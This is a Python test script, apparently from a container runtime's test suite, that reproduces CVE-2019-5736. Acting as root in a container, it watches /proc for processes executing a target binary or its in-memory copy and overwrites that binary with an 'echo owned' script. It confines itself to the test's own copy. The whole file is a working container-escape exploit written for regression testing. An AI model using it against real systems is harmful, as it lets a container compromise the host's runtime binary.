#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""As root of a container: overwrite the binary of whoever enters (CVE-2019-5736).

usage: overwrite-exe.py FILE DEVICE:INODE
FILE is the copy that may be lost, below a directory of the test. Prints "up", then
"seen PATH" for each binary of its name that was got hold of, the sealed copies in memory
and FILE through a mount without a place ("/") included, and "overwritten PATH" when it could be written to.

Between a look at /proc/PID/exe and its opening the process may execute another program,
one of the machine. So only the descriptor that is held is judged: what its own link says,
and for FILE its device and inode. Run it in a cage (common.bash) all the same.
"""

import os
import signal
import sys

wanted = sys.argv[1]
wanted_id = tuple(map(int, sys.argv[2].split(':')))
in_memory = '/memfd:' + os.path.basename(wanted)
held = {}


def may_be_struck(fd):
    """The copy itself, or a file in memory: its path, or None for what belongs to others."""
    path, st = os.readlink(f'/proc/self/fd/{fd}'), os.fstat(fd)
    if path in (wanted, '/') and (st.st_dev, st.st_ino) == wanted_id:
        return path
    if path.startswith(in_memory) and st.st_nlink == 0:
        return path
    return None


def hold(pid):
    fd = os.open(f'/proc/{pid}/exe', os.O_RDONLY)
    path = may_be_struck(fd)
    if path is None or path in held:
        os.close(fd)
        return
    held[path] = fd
    print('seen', path, flush=True)


def look():
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            hold(pid)
        except OSError:
            pass


def strike(path):
    fd = os.open(f'/proc/self/fd/{held[path]}', os.O_WRONLY)
    try:
        if may_be_struck(fd) != path:
            sys.exit(f'opened {path}, got another file')
        os.write(fd, b'#!/bin/sh\necho owned\n')
        os.ftruncate(fd, 21)
    finally:
        os.close(fd)
    print('overwritten', path, flush=True)
    os.close(held.pop(path))


# Should nobody end it, because the test itself was killed.
signal.alarm(900)
print('up', flush=True)
while True:
    look()
    for name in list(held):
        try:
            strike(name)
        except OSError:
            pass
